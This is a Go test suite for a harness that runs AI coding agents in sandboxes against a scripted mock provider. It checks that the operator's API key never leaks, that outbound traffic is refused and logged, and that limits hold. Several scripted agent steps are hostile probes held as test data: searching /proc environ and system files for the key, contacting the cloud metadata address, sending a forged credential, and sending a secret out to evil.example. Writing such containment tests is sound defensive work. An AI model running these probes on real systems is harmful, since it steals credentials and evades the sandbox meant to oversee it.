package main

import (
	"bytes"
	"cmp"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/securebench/sbench/harness"
	"github.com/securebench/sbench/internal/test/containerdtest"
	"github.com/securebench/sbench/internal/test/must"
	"github.com/securebench/sbench/internal/test/providertest"
	"github.com/securebench/sbench/proxy/relay"
	"github.com/securebench/sbench/run/record"
	"github.com/securebench/sbench/runtime/userns"
)

const realKey = "sk-real-0123456789abcdef-of-the-operator"

// agentRun is a run of one agent on one task against a scripted provider.
type agentRun struct {
	host     testHost
	provider *providertest.Provider
	output   string
	stderr   string
	record   record.Record // the last one
}

// steps is a provider's script.
type steps = []providertest.Step

// greet is the script that solves create-file.
var greet = steps{{Shell: "echo 'hello, sandbox' > greeting.txt"}, {Say: "The file is there."}}

// greetAfter is greet with a fault before its first answer. Without a kind of fault, the provider is gone
// from the first generation on.
func greetAfter(f providertest.Fault) steps {
	first := greet[0]
	first.Faults = []providertest.Fault{f}
	return steps{first, greet[1]}
}

func runAgent(t *testing.T, agent, pack, task string, script steps, config string, code int) agentRun {
	t.Helper()
	dir := must.Abs(t, "../../benchmarks/"+pack)
	return runAgentOn(t, agent, dir, task, script, config, code)
}

func runAgentOn(t *testing.T, agent, pack, task string, script steps, config string, code int) agentRun {
	t.Helper()
	h := newHost(t)
	provider := providertest.New(realKey, script...)
	server := httptest.NewServer(provider)
	t.Cleanup(server.Close)
	if slices.Contains(script[0].Faults, providertest.Fault{}) {
		server.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.Method == http.MethodPost {
				_ = server.Listener.Close()
				panic(http.ErrAbortHandler)
			}
			provider.ServeHTTP(w, r)
		})
	}
	base, name := server.URL+"/v1", "MY_KEY"
	if cli, ok := harness.CLIOf(agent); ok {
		name = cli.Credentials[0].Name
		if cli.Provider != relay.OpenAI {
			base = server.URL
		}
	}
	if filepath.Base(pack) == "repo-patch-smoke" {
		h.sbench(0, "image", "build", "--pack", pack)
	}
	if agent == ownAgent {
		source := must.Abs(t, "../../examples/agents")
		agent, config = "command", `, command: [python3, /opt/agents/agent.py], files: [{source: `+source+`}], provider: {api: openai, key: MY_KEY}`+config
	}
	tester := filepath.Join(h.dir, "tester.yaml")
	must.Do(t, os.WriteFile(tester, fmt.Appendf(nil, `schema_version: "0.2"
run: {id: agent, output_dir: out}
benchmark: {manifest: %[1]s/manifest.yaml, tasks: %[1]s/tasks.jsonl}
harness:
  type: %[2]s
  env: [%[3]s]
  config: {model: test-model, base_url: "%[4]s"%[5]s}
`, pack, agent, name, base, config), 0o644))
	r := agentRun{host: h, provider: provider, output: filepath.Join(h.dir, "out")}
	h.env = append(h.env, name+"="+realKey)
	_, r.stderr = h.sbench(code, "run", "--config", tester, "--task", task, "--show-agent-output", "--retries", "0")
	for _, r.record = range recordsOf(t, r.output) {
	}
	r.noKey(t)
	return r
}

// noKey looks for the provider's key in all files of the run.
func (r agentRun) noKey(t *testing.T) {
	t.Helper()
	if strings.Contains(r.stderr, realKey) {
		t.Error("the key is in the progress")
	}
	must.Do(t, filepath.WalkDir(r.output, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		data, err := os.ReadFile(path)
		if bytes.Contains(data, []byte(realKey)) {
			t.Errorf("the key is in %s", path)
		}
		return err
	}))
}

func (r agentRun) trace(t *testing.T) string {
	t.Helper()
	found := must.Glob(t, filepath.Join(r.output, "logs", "*", "*", "agent-trace.log"))
	if len(found) != 1 {
		t.Fatalf("traces %v", found)
	}
	data := must.Read(t, found[0])
	return string(data)
}

// ownAgent stands for the agent in examples/agents, which the tester brings.
const ownAgent = "own"

// TestCustomAgent: an agent that the tester brings reaches its model through the relay, and has no key.
func TestCustomAgent(t *testing.T) {
	const passed, none = "passed ", "error infrastructure"
	tests := []struct {
		name, pack, task string
		script           steps
		config, want     string
	}{
		{"workspace", "terminal-task-smoke", "terminal-task-smoke/create-file", append(steps{{Shell: "env; grep -r sk-real / --include=*.py --exclude-dir=proc --exclude-dir=sys 2>/dev/null; ls -ld /opt/agents; touch /opt/agents/x"}}, greet...), "", passed},
		{"code", "code-completion-smoke", "code-completion-smoke/starter", steps{{Shell: "printf 'def add_numbers(a, b):\\n    return a + b\\n' >candidate.py; cat task.json >&2"}, {Say: "Done."}}, "", passed},
		{"patch", "repo-patch-smoke", "repo-patch-smoke/slug", steps{{Shell: "sed 's/\\[^a-z0-9\\]\", \"-\", title.lower())/[^a-z0-9]+\", \"-\", title.lower()).strip(\"-\")/' /testbed/textkit/words.py >/tmp/words.py && cp /tmp/words.py /testbed/textkit/"}, {Say: "Mended."}}, "", passed},
		{"cut", "terminal-task-smoke", "terminal-task-smoke/create-file", greetAfter(providertest.Fault{Cut: 2}), "", none},
		{"patch, out of time", "repo-patch-smoke", "repo-patch-smoke/slug", steps{{Shell: "echo '# mended' >>/testbed/textkit/words.py; sleep 600"}}, ", timeout_seconds: 8", "failed producer_timeout"},
		{"money is used up", "terminal-task-smoke", "terminal-task-smoke/create-file", greet, ", max_cost_usd: 10, prices: {input: 1000000, output: 1000000}", "failed max_cost_usd_exceeded"},
		{"model that gives up", "terminal-task-smoke", "terminal-task-smoke/create-file", steps{{Say: "I cannot."}}, "", "failed checker_failed"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			code := 0
			if tt.want == none {
				code = codeInfrastructure
			}
			r := runAgent(t, ownAgent, tt.pack, tt.task, tt.script, tt.config, code)
			if got := string(r.record.VerificationStatus) + " " + r.record.FailureReason; got != tt.want {
				t.Errorf("%s (%s), want %s\n%s\n%s", got, r.record.FailureMessage, tt.want, r.stderr, r.record.ProducerStderr)
			}
			for _, request := range r.provider.Problems() {
				t.Error(request)
			}
			if tt.want == none && !strings.Contains(r.record.FailureMessage, "the provider failed (openai, 127.0.0.1:") {
				t.Error(r.record.FailureMessage)
			}
			if tt.name == "patch, out of time" && (r.record.CandidatePatch == nil || !strings.Contains(*r.record.CandidatePatch, "+# mended")) {
				t.Error("the patch is not kept")
			}
			if tt.want == passed && (r.record.Agent.Name != "command" || r.record.Egress.Relay.Usage.Input < 20) {
				t.Errorf("%+v", r.record)
			}
		})
	}
}

// twoAsks asks the model twice, and asks again while the provider has too much load.
const twoAsks = `import os, urllib.error, urllib.request
left = 2
while left:
    key = {"Content-Type": "application/json", "Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}
    body = b'{"model": "test-model", "input": "x", "store": false}'
    try:
        urllib.request.urlopen(urllib.request.Request(os.environ["OPENAI_BASE_URL"] + "/responses", body, key)).read()
        left -= 1
    except urllib.error.HTTPError as e:
        if e.code != 429:
            raise
`

// TestProviderWaits: when a provider refuses the request of one attempt because of its load, the other attempt waits,
// too. The records say how long. With the working clock, that time, which is more than an attempt has, is not its own.
func TestProviderWaits(t *testing.T) {
	h := newHost(t)
	var asked atomic.Int64
	out := filepath.Join(h.dir, "waited")
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if r.Method == http.MethodPost {
			switch asked.Add(1) {
			case 1:
				w.Header().Set("Retry-After", "9")
				w.WriteHeader(http.StatusTooManyRequests)
			case 2: // of the other attempt, until sbench has read the refusal
				must.Await(t, "the refusal in the log", func() bool {
					log, _ := os.ReadFile(filepath.Join(out, "egress.jsonl"))
					return bytes.Contains(log, []byte(`"status":429`))
				})
			}
		}
		_, _ = io.WriteString(w, `{"output": [], "usage": {"input_tokens": 1, "output_tokens": 1}}`)
	}))
	t.Cleanup(server.Close)
	tester := writePack(t, h.dir, taskRows(2, "true", ""), fmt.Sprintf(`harness:
  type: command
  env: [MY_KEY]
  config: {command: [python3, -c, %q], provider: {api: openai, key: MY_KEY}, model: test-model, base_url: "%s/v1", timeout_seconds: 8, clock: working}
`, twoAsks, server.URL))
	h.env = append(h.env, "MY_KEY="+realKey)
	h.sbench(0, "run", tester, "--output-dir", out, "--jobs", "2", "--retries", "0")
	for _, r := range recordsOf(t, out) {
		if r.VerificationStatus != record.Passed || r.Times.ProviderWait <= 0 {
			t.Errorf("%s: %s %s %s, %+v", r.TaskID, r.VerificationStatus, r.FailureReason, r.FailureMessage, r.Times)
		}
	}
}

// TestMaxCost: once a run has reached its cost limit, no attempt starts. A resumed run counts the earlier
// costs.
func TestMaxCost(t *testing.T) {
	r := runAgent(t, ownAgent, "terminal-task-smoke", "terminal-task-smoke/create-file", greet, ", prices: {input: 1000000, cached_input: 1, output: 2000000}", 0)
	tester, out := filepath.Join(r.host.dir, "tester.yaml"), filepath.Join(r.host.dir, "limited")
	r.host.env = append(r.host.env, "MY_KEY="+realKey)
	args := []string{"run", tester, "--output-dir", out, "--jobs", "1", "--set", "run.max_cost_usd=50", "--progress", "plain"}
	for _, more := range [][]string{nil, {"--resume"}} {
		stdout, stderr := r.host.sbench(0, append(args, more...)...)
		if !strings.Contains(stdout, "total=2 planned=5 verification=partial") || !strings.Contains(stderr, "the run has cost 80.0000 USD, and run.max_cost_usd is 50:") {
			t.Errorf("%v:\n%s%s", more, stdout, stderr)
		}
	}
	stdout, _ := r.host.sbench(0, "report", out)
	must.Contains(t, stdout, "80.00 USD in all tries")
}

// TestOwnDescriptor runs a tester's own agent with the descriptor of examples/agents.
func TestOwnDescriptor(t *testing.T) {
	h := newHost(t)
	dir := must.Abs(t, "../../examples/agents")
	pack := must.Abs(t, "../../benchmarks/terminal-task-smoke")
	provider := providertest.New(realKey, append(steps{{Think: "Let me see.", Shell: `echo "home is $HOME"`}}, greet...)...)
	server := httptest.NewServer(provider)
	t.Cleanup(server.Close)
	h.env = append(h.env, "MY_KEY="+realKey)
	tester := filepath.Join(h.dir, "tester.yaml")
	write := func(options string) {
		must.Do(t, os.WriteFile(tester, fmt.Appendf(nil, `schema_version: "0.2"
run: {id: agent, output_dir: out, tasks: [terminal-task-smoke/create-file]}
benchmark: {manifest: %[1]s/manifest.yaml, tasks: %[1]s/tasks.jsonl}
harness:
  type: agent
  env: [MY_KEY]
  config: {descriptor: %[2]s/agent.yaml, model: test-model, base_url: "%[3]s/v1"%[4]s}
`, pack, dir, server.URL, options), 0o644))
	}
	for options, want := range map[string]string{
		", options: {turn: 5}":       `my_agent has no such key (its descriptor names: turns)`,
		", options: {turns: []}":     "is no word",
		", options: {turns: 'a\"b'}": "is no word",
	} {
		write(options)
		if stdout, _ := h.sbench(codeUsage, "validate", tester); !strings.Contains(stdout, want) {
			t.Errorf("%s: %s", options, stdout)
		}
	}
	write(", options: {turns: 5}")
	if stdout, stderr := h.sbench(0, "run", tester, "--show-agent-output"); !strings.Contains(stdout, "passed=1") || !strings.Contains(stderr, "$ echo 'hello, sandbox'") {
		t.Fatal(stdout, stderr)
	}
	if requests := provider.Requests(); !slices.ContainsFunc(requests, func(r providertest.Request) bool { return bytes.Contains(r.Body, []byte("home is /root")) }) {
		t.Error("the agent's HOME is not the image's")
	}
	out := filepath.Join(h.dir, "out")
	h.sbench(0, "verify", out)
	if stdout, _ := h.sbench(0, "show", out, "terminal-task-smoke/create-file"); !strings.Contains(stdout, "name: my_agent") || !strings.Contains(stdout, "command (exit code 0)\n    echo 'hello, sandbox'") || strings.Contains(stdout, realKey) {
		t.Error(stdout)
	}
	shown, _ := h.sbench(0, "harness", "show", "gemini_cli")
	must.Contains(t, shown, "api: google")
}

// agents returns all agents. For an ordinary user without SBENCH_SOAK it returns one stand-alone program and
// one agent for Node.js: the tests as root cover the others.
func agents() []string {
	if userns.Inside() && os.Getenv("SBENCH_SOAK") == "" {
		return []string{"codex", "gemini_cli"}
	}
	var names []string
	for _, cli := range harness.CLIs() {
		names = append(names, cli.Name)
	}
	return names
}

// TestAgentsSolve: the agents solve a task of each kind of sandbox.
func TestAgentsSolve(t *testing.T) {
	tasks := []struct {
		pack, task  string
		script      steps
		trace, said string
	}{
		{"terminal-task-smoke", "terminal-task-smoke/create-file", greet, "greeting.txt", "The file is there."},
		{"code-completion-smoke", "code-completion-smoke/starter", steps{{Write: &providertest.File{Path: "/workspace/candidate.py", Content: "def add_numbers(a, b):\n    return a + b\n"}}, {Say: "Done."}}, "candidate.py", "candidate.py"},
		{"repo-patch-smoke", "repo-patch-smoke/slug", steps{{Shell: "sed 's/\\[^a-z0-9\\]\", \"-\", title.lower())/[^a-z0-9]+\", \"-\", title.lower()).strip(\"-\")/' /testbed/textkit/words.py >/tmp/words.py && cp /tmp/words.py /testbed/textkit/"}, {Say: "Mended."}}, "words.py", "$ "},
	}
	for _, agent := range agents() {
		for _, tt := range tasks {
			t.Run(agent+"/"+tt.pack, func(t *testing.T) {
				t.Parallel()
				r := runAgent(t, agent, tt.pack, tt.task, tt.script, "", 0)
				if r.record.VerificationStatus != "passed" {
					t.Errorf("%+v\nproblems %v\n%s", r.record, r.provider.Problems(), r.stderr)
				}
				if u := r.record.Egress.Relay.Usage; u.Input < 20 || u.Output < 10 {
					t.Errorf("usage %+v", u)
				}
				if !strings.Contains(r.trace(t), tt.trace) || !strings.Contains(r.stderr, tt.said) {
					t.Errorf("the trace or the progress lacks %q:\n%s", tt.said, r.stderr)
				}
				if r.record.Agent.Name != agent || r.record.Agent.Version == "" || r.record.Agent.Version == "latest" {
					t.Errorf("agent %+v", r.record.Agent)
				}
			})
		}
	}
}

// dialects returns an agent for each of the providers' APIs; all agents with SBENCH_SOAK.
func dialects() []string {
	if os.Getenv("SBENCH_SOAK") != "" || userns.Inside() {
		return agents()
	}
	return []string{"codex", "claude_code", "gemini_cli", "qwen_code"}
}

// TestAgentsProvider: if the provider fails and the agent could have gone on, the attempt gets no verdict.
// Without SBENCH_SOAK, agents for Node.js, which take longer, meet every third fault.
func TestAgentsProvider(t *testing.T) {
	const passed, failed, none = "passed ", "failed ", "error infrastructure"
	tests := []struct {
		name         string
		script       steps
		config, want string
		but          map[string]string // by agent
	}{
		{"slow", steps{{Shell: greet[0].Shell, Delay: 100 * time.Millisecond}, greet[1]}, "", passed, nil},
		{"cut once", greetAfter(providertest.Fault{Cut: 2}), "", passed, nil},
		{"429 once", greetAfter(providertest.Fault{Status: 429}), "", passed, map[string]string{"codex": none}},
		{"429 for ever", greetAfter(providertest.Fault{Status: 429, Forever: true}), ", timeout_seconds: 15", none, nil},
		{"500 once", greetAfter(providertest.Fault{Status: 500}), "", passed, nil},
		{"500 for ever", greetAfter(providertest.Fault{Status: 500, Forever: true}), ", timeout_seconds: 15", none, nil},
		{"dead", greetAfter(providertest.Fault{}), ", timeout_seconds: 15", none, nil},
		{"garbled once", greetAfter(providertest.Fault{Garble: true}), "", passed, map[string]string{"opencode": none, "qwen_code": none}},
		{"garbled for ever", greetAfter(providertest.Fault{Garble: true, Forever: true}), ", timeout_seconds: 15", none, nil},
		{"requests are used up", greet, ", max_requests: 1, timeout_seconds: 60", failed + "max_requests_exceeded", nil},
		{"tokens are used up", steps{{Shell: greet[0].Shell, Usage: providertest.Usage{Input: 100, Output: 100}}, greet[1]}, ", max_total_tokens: 150, timeout_seconds: 60", failed + "max_total_tokens_exceeded", nil},
		{"model that gives up", steps{{Say: "I cannot."}}, "", failed + "checker_failed", nil},
		{"model that hangs", steps{{Shell: "tail -f /dev/null"}}, ", timeout_seconds: 6", failed + "producer_timeout", nil},
	}
	for i, agent := range dialects() {
		for j, tt := range tests {
			if node := agent == "gemini_cli" || agent == "qwen_code"; node && os.Getenv("SBENCH_SOAK") == "" && (i+j)%3 != 0 {
				continue
			}
			if i > 0 && strings.Contains(tt.config, "timeout_seconds") && tt.want != none && os.Getenv("SBENCH_SOAK") == "" {
				continue // a budget or a limit of time, which the API has no part in
			}
			t.Run(agent+"/"+tt.name, func(t *testing.T) {
				t.Parallel()
				want, code := cmp.Or(tt.but[agent], tt.want), 0
				if want == none {
					code = codeInfrastructure
				}
				r := runAgent(t, agent, "terminal-task-smoke", "terminal-task-smoke/create-file", tt.script, tt.config, code)
				if got := string(r.record.VerificationStatus) + " " + r.record.FailureReason; got != want {
					t.Errorf("%s (%s), want %s\n%s\n%s", got, r.record.FailureMessage, want, r.stderr, r.record.ProducerStderr)
				}
			})
		}
	}
}

// TestAgentsFindNoKey: a model looks everywhere in a sandbox for the key, and for everything that it must not
// have. All that it finds goes to the test's provider.
func TestAgentsFindNoKey(t *testing.T) {
	hunt := steps{{Shell: `cat /proc/*/environ /proc/*/cmdline /proc/*/mountinfo 2>/dev/null | tr '\0' '\n' | grep -E 'sk-rea[l]|opera[t]or|/hidden|candidates.jso[n]l' ; echo environ done
grep -rsE 'sk-rea[l]-0123456789' /opt/sbench/home /workspace /tmp /etc /root /home /var /run 2>/dev/null; echo grep done
touch /opt/sbench/agent/evil 2>&1 | grep -o 'Read-only file system'; ls /opt/sbench
ls /opt/sbench/home/.. /workspace/.. | sort | uniq -c | head -40
python3 -c "
import socket
for a in (('127.0.0.1', 22), ('169.254.169.254', 80), ('10.0.0.1', 443)):
    try: socket.create_connection(a, 3); print('REA' + 'CHED', a)
    except OSError as e: print(a, e)
s = socket.create_connection(('127.0.0.1', 8099)); s.sendall(b'GET /v1/models HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer forged\r\nx-api-key: forged\r\n\r\n'); print(s.recv(4000))"`}, {Say: "Nothing to be found."}}
	for _, agent := range agents() {
		t.Run(agent, func(t *testing.T) {
			t.Parallel()
			r := runAgent(t, agent, "terminal-task-smoke", "terminal-task-smoke/create-file", hunt, "", 0)
			if r.record.FailureReason != "checker_failed" {
				t.Errorf("%+v\n%s", r.record, r.stderr)
			}
			saw := ""
			for _, request := range r.provider.Requests() {
				saw += string(request.Body)
				for _, values := range request.Header {
					if strings.Contains(fmt.Sprint(values), "forged") {
						t.Error("a forged credential reached the provider")
					}
				}
			}
			must.Contains(t, saw, "environ done", "grep done", "Read-only file system")
			for _, secret := range []string{realKey, "of-the-operator", "REACHED", "check-greeting", "candidates.json"} {
				if strings.Contains(saw, secret) {
					t.Errorf("the model saw %q", secret)
				}
			}
		})
	}
}

// egressLine is what these tests read of egress.jsonl.
type egressLine struct {
	Kind, Host, Verdict, Reason, Path, Model string
	Port, Status                             int
	Stripped                                 []string
	Usage                                    *struct{ Input, Output int64 }
}

func (r agentRun) egress(t *testing.T) []egressLine {
	t.Helper()
	f, err := os.Open(filepath.Join(r.output, "egress.jsonl"))
	must.Do(t, err)
	defer func() { must.Do(t, f.Close()) }()
	var all []egressLine
	for d := json.NewDecoder(f); d.More(); {
		var line egressLine
		must.Do(t, d.Decode(&line))
		all = append(all, line)
	}
	return all
}

// TestAgentsReachNothingElse: a host that is not allowed is refused and logged, a hosted
// tool is removed from the request and logged, and the run goes on.
func TestAgentsReachNothingElse(t *testing.T) {
	script := steps{
		{Shell: `python3 -c "import urllib.request as u; u.urlopen('https://evil.example/?q=secret')" 2>&1 | tail -1; ` + greet[0].Shell},
		greet[1],
	}
	for _, agent := range agents() {
		t.Run(agent, func(t *testing.T) {
			t.Parallel()
			r := runAgent(t, agent, "terminal-task-smoke", "terminal-task-smoke/create-file", script, "", 0)
			if r.record.VerificationStatus != "passed" || r.record.Egress.Proxy.Denied == 0 {
				t.Errorf("%+v\n%s", r.record, r.stderr)
			}
			denied, relayed, stripped := false, 0, false
			for _, line := range r.egress(t) {
				denied = denied || line.Kind == "connect" && line.Host == "evil.example" && line.Port == 443 && line.Verdict == "deny" && line.Reason != ""
				if line.Kind == "relay" && line.Verdict == "allow" && line.Status == 200 && line.Model == "test-model" && line.Usage != nil {
					relayed++
				}
				stripped = stripped || len(line.Stripped) > 0
			}
			if !denied || relayed < 2 {
				t.Errorf("denied %v, relayed %d: %+v", denied, relayed, r.egress(t))
			}
			if agent == "codex" && (!stripped || len(r.record.Egress.Relay.Stripped) == 0) { // codex always asks for web_search
				t.Errorf("no hosted tool was taken out: %+v", r.egress(t))
			}
		})
	}
}

// TestAgentsRefusedTool: under the policy refuse, a request for a hosted tool does not
// reach the provider.
func TestAgentsRefusedTool(t *testing.T) {
	r := runAgent(t, "codex", "terminal-task-smoke", "terminal-task-smoke/create-file", greet, ", on_external_tools: refuse", 0)
	if r.record.VerificationStatus != "failed" || r.record.Egress.Relay.Sent != 0 || len(r.record.Egress.Relay.External) == 0 {
		t.Errorf("%+v\n%s", r.record, r.stderr)
	}
	for _, line := range r.egress(t) {
		if line.Kind == "relay" && line.Path == "/v1/responses" && line.Verdict != "deny" {
			t.Errorf("%+v", line)
		}
	}
}

// TestAgentsTogether: two attempts at the same time share the agent's files, which
// neither can write, and nothing else.
func TestAgentsTogether(t *testing.T) {
	for _, agent := range agents() {
		t.Run(agent, func(t *testing.T) {
			t.Parallel()
			containerdtest.Open(t) // skips where there is no daemon
			var both [2]agentRun
			var wg sync.WaitGroup
			for i := range both {
				wg.Go(func() {
					both[i] = runAgent(t, agent, "terminal-task-smoke", "terminal-task-smoke/create-file", append(steps{{Shell: fmt.Sprintf(
						"for d in /tmp /opt/sbench/home /workspace; do touch $d/left-by-%d; done; sleep 3; ls /tmp /opt/sbench/home /workspace", i)}}, greet...), "", 0)
				})
			}
			wg.Wait()
			for i, r := range both {
				own, other := fmt.Sprint("left-by-", i), fmt.Sprint("left-by-", 1-i)
				if r.record.VerificationStatus != "passed" || !strings.Contains(r.stderr, "\n"+own) && strings.Count(r.stderr, own) < 3 || strings.Contains(r.stderr, other) {
					t.Errorf("%+v\n%s", r.record, r.stderr)
				}
			}
		})
	}
}

// TestAgentDoesNotRun: an image in which the program cannot run leads to no verdict, and the message quotes
// the program.
func TestAgentDoesNotRun(t *testing.T) {
	c := containerdtest.Open(t)
	directory := t.TempDir()
	must.Do(t, os.WriteFile(filepath.Join(directory, "ld-linux-x86-64.so.2"), []byte("broken"), 0o755))
	image := containerdtest.WithDirectory(t, c, "sbench.test/no-loader:latest", directory, "/usr/lib64")
	t.Cleanup(func() { must.Do(t, c.Images.Remove(context.Background(), image.Ref)) })
	dir := t.TempDir()
	writePack(t, dir, taskRow("one", "true", `, "environment": {"image": "`+image.Ref+`"}`), "")
	r := runAgentOn(t, "claude_code", dir, "one", greet, "", codeInfrastructure)
	if r.record.VerificationStatus != "error" || !strings.Contains(r.record.FailureMessage, "does not run in this image") {
		t.Errorf("%+v", r.record)
	}
}

// TestAgentSpec: the specification of an agent's sandbox can be printed without a key.
func TestAgentSpec(t *testing.T) {
	h := newHost(t)
	for _, name := range []string{"codex", "claude"} {
		out, _ := h.sbench(0, "spec", "--config", "../../benchmarks/terminal-task-smoke/tester-"+name+".yaml")
		for _, want := range []string{`"/opt/sbench/agent/`, `"destination": "/opt/sbench/home"`, "127.0.0.1:8099"} {
			if !strings.Contains(out, want) {
				t.Errorf("%s: the specification lacks %s", name, want)
			}
		}
	}
}
